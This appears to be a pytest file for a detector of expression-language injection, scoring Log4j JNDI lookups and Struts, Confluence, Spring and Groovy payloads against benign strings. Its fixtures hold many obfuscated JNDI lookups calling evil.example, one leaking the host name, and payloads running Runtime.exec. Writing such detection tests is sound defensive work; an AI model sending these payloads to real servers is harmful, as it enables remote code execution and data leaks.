"""Expression languages: lookups as Log4j resolves them, and expressions that reach classes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.guard.inspector.sinks.scoring import QUERY, growth, read_though_ordinary, score

from shangdun_guard.inspector.sinks.expression import SINK

ATTACKS = {
    "plain": "${jndi:ldap://evil.example/a}",
    "in a browser's name": "Mozilla/5.0 ${jndi:rmi://evil.example/a} (x)",
    "lower": "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}",
    "upper": "${j${upper:n}di:dns://evil.example}",
    "empty lookup": "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/x}",
    "defaults of the environment": "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap:/x}",
    "deep": "${${a:-${b:-${lower:J}}}${c:-n}di:ldap://evil.example}",
    "without an end": "${jndi:ldap://evil.example/a",
    "host name inside": "${jndi:ldap://${env:HOSTNAME}.evil.example/a}",
    "other lookups": "${jndi:${sys:x:-l}dap://evil.example}",
    "Struts content type": "%{(#_='multipart/form-data')."
    "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "Struts redirect": 'redirect:${#context["xwork.MethodAccessor.denyMethodExecution"]}',
    "Confluence": "${(#a=@org.apache.commons.io.IOUtils@toString("
    '@java.lang.Runtime@getRuntime().exec("id")))}',
    "product": "%{233*233}",
    "Spring Cloud Function": 'T(java.lang.Runtime).getRuntime().exec("id")',
    "Spring, in braces": "#{T(java.lang.System).getenv()}",
    "new object": "#{new java.lang.ProcessBuilder({'id'}).start()}",
    "class by name": "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
    "script engine": "${new javax.script.ScriptEngineManager().getEngineByName('js').eval('1')}",
    "scope": "${applicationScope}",
    "page": "${pageContext.request.getSession()}",
    "MVEL": "Runtime.getRuntime().exec('id')",
    "class loader": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "Groovy": '"id".execute()',
}
HONEST = {
    "variable": "${variable} is not set",
    "shell": 'echo "${HOME}/bin:${PATH:-/bin}"',
    "default": "${NAME:-world}",
    "path of an editor": "${env:PATH}",
    "log pattern": "${date:yyyy-MM-dd} ${sys:log.dir}/app.log",
    "script": "`${a} and ${b.c()}`",
    "message": "#{count} items",
    "stack": "java.lang.NullPointerException\n\tat com.shop.Cart.add(Cart.java:12)",
    "driver": 'Class.forName("com.mysql.jdbc.Driver")',
    "processors": "int n = Runtime.getRuntime().availableProcessors();",
    "complexity": "T(n) = 2T(n/2) + O(n)",
    "shirt": "T (shirt), size M",
    "annotation": "@Override public void run() { }",
    "logger": "private static final Logger log = LoggerFactory.getLogger(Cart.class);",
    "spring": '@Value("${shop.url}") private String url;',
    "anchor": "https://shop.example/#request(1)",
    "percent": "100%{sure}",
    "word": "the jndi: lookup of Log4j (CVE-2021-44228)",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_reaches_out_convicts(text: str) -> None:
    assert score(SINK, text) >= 0


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST.keys())
def test_variables_and_source_code_do_not(text: str) -> None:
    assert score(SINK, text) <= -1


def test_java_in_a_ticket_stays_below() -> None:
    lines = ["Hello, our importer stops here:"] + ["    cart.add(item); // works"] * 12
    lines += ['    Process p = Runtime.getRuntime().exec("convert a.png");', "What is wrong?"]
    assert score(SINK, "\n".join(lines)) < -2


def test_a_lookup_is_found_however_deep_it_hides() -> None:
    letter = "j"
    for _ in range(200):
        letter = "${x:-" + letter + "}"
    assert score(SINK, "${" + letter + "ndi:ldap://evil.example}") >= 0


@pytest.mark.parametrize(
    "unit",
    [
        "${", "}", "${a:-", "${a:-b}", "${${", "%{", "#{", "T(", "T(a.", "@java.a", "(#a=", "#a=",
        "getclass(", "'.", "class.", "j n d i", "${jndi:", "new ", "'] .", "${lower:",
    ],
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    assert growth(SINK, unit, 8_000) < 9


def test_deep_nesting_is_linear() -> None:
    assert growth(SINK, "${x:-" * 100 + "A" * 500 + "}" * 100, 8_000) < 9


def test_ordinary_values_pass_at_a_glance() -> None:
    assert read_though_ordinary(SINK) == []


PIECES = st.sampled_from(
    ["${", "}", ":-", "lower:", "j", "ndi:", "ldap:", "%{", "#{", "T(", "java.", "@", "#a=", "(",
     ")", "'", "env:", "::", "7*7", ".", "class", " "]
)  # fmt: skip


@given(st.text() | st.lists(PIECES, max_size=40).map("".join))
def test_it_never_raises_and_its_places_lie_inside(text: str) -> None:
    for sign in SINK.judge(text, QUERY):
        assert 0 <= sign.start <= sign.end <= len(text)


def test_codes_have_weights_and_sentences() -> None:
    assert SINK.weights.keys() == SINK.sentences.keys()
    assert all(code.startswith("expression.") for code in SINK.weights)
